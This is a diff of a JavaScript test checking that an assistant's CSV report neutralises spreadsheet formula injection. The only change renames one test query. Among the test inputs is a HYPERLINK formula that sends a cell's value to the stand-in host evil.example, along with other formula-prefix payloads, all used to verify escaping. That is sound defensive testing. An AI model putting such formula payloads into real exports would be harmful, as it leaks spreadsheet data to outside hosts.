@@ -314,14 +314,14 @@ describe('the report and feedback take nothing from the client on trust', () => 
     const store = new MemoryStore();
     const a = (await import('../src/assistant/assistant.js')).Assistant;
     const b = new a(assistant().kb, assistant().nlu, { store, limits: null });
-    for (const q of ['=HYPERLINK("http://evil.example/?x="&A1,"click") knee arthroscopy code', '+SUM(A1:A9) hip replacement code', '-2+3 shoulder replacement code', '@cmd elbow replacement code', 'first\rsecond ankle replacement code']) {
+    for (const q of ['=HYPERLINK("http://evil.example/?x="&A1,"click") knee arthroscopy code', '+SUM(A1:A9) hip replacement code', '-2+3 shoulder replacement code', '@cmd elbow replacement code', 'first\rsecond hair transplant code']) {
       await b.handle({ text: q, conversation: { platform: 't', channel: randomUUID(), thread: null }, user: 'u' });
     }
     const csv = formatReport(buildReport(store, new Date(0)), 'csv');
     const cells = csv.split(/\n/).map((l) => l.split(',')[1] ?? '');
     for (const cell of cells) expect(cell).not.toMatch(/^"?[=+\-@]/);
     expect(csv).toContain(`"'=HYPERLINK(`);
-    expect(csv).toMatch(/"first\rsecond ankle replacement code"/);
+    expect(csv).toMatch(/"first\rsecond hair transplant code"/);
     // Every line is a whole row: a section name first.
     for (const line of csv.split('\n')) expect(line).toMatch(/^(section|summary|gap|intent|helpful|latency_ms|hour_utc),/);
   });
